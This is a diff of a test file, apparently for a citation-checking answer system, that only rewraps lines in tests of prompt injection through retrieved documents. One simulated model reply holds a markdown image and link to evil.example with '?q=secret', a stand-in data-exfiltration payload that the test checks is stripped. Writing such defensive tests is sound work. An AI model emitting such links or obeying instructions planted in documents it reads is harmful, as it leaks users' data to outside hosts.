@@ -32,9 +32,14 @@ describe('a document that gives instructions', () => {
 
   it('is still quoted exactly when it holds brackets', async () => {
     const [source] = passages('Write <b>bold</b> & "quoted" text in HTML.');
-    const { ask } = answering([source!], ['Bold text is written with the b tag [1: "Write ‹b›bold‹/b› & \\"quoted\\" text"].']);
+    const { ask } = answering(
+      [source!],
+      ['Bold text is written with the b tag [1: "Write ‹b›bold‹/b› & \\"quoted\\" text"].'],
+    );
     const { message } = await answerOf(ask('How is bold text written?'));
-    expect(message.answer.citations).toEqual([expect.objectContaining({ verified: true, quote: 'Write <b>bold</b> & "quoted" text' })]);
+    expect(message.answer.citations).toEqual([
+      expect.objectContaining({ verified: true, quote: 'Write <b>bold</b> & "quoted" text' }),
+    ]);
   });
 
   it('that the model obeyed has its answer withheld', async () => {
@@ -45,7 +50,8 @@ describe('a document that gives instructions', () => {
   });
 
   it('cannot make the answer load or link to anything', async () => {
-    const reply = 'Refunds take 14 days [1: "Refunds take 14 days"]. ![x](https://evil.example/?q=secret) [click](https://evil.example)';
+    const reply =
+      'Refunds take 14 days [1: "Refunds take 14 days"]. ![x](https://evil.example/?q=secret) [click](https://evil.example)';
     const { message, streamed } = await answerOf(answering(found, [reply.split('')]).ask('How long?'));
     expect(streamed).not.toMatch(/!\[|\]\(/);
     expect(message.answer.answer).toBe(streamed.trimEnd());
